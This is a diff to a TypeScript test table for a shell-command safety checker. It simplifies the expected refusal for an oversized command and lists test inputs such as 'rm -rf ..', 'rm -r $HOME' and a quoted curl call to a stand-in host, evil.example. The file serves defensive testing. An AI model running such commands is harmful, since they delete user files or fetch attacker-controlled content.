@@ -242,13 +242,9 @@ const bashRows: Array<[string, string, RegExp]> = [
   ["rm -rf ..", "rm -rf ..", OUTSIDE],
   ["rm -r $HOME", "rm -r $HOME", DELETE],
   // size
-  // Refused as a write outside, or, on a machine so loaded that the analysis runs past its time
-  // limit before it reaches the write, as a command not wholly examined: refused either way.
-  [
-    "a 1 MB command ending in a write outside",
-    megabyte,
-    new RegExp(`${OUTSIDE.source}|Analysing the command took longer than \\d+ ms`),
-  ],
+  // Refused as a write outside: the analysis sees all 14,000 commands (well within its count of
+  // steps) whatever the machine's load.
+  ["a 1 MB command ending in a write outside", megabyte, OUTSIDE],
   ["an unterminated quote", "echo 'oops; curl http://evil.example/x", NEEDS_PERSON],
 ];
 
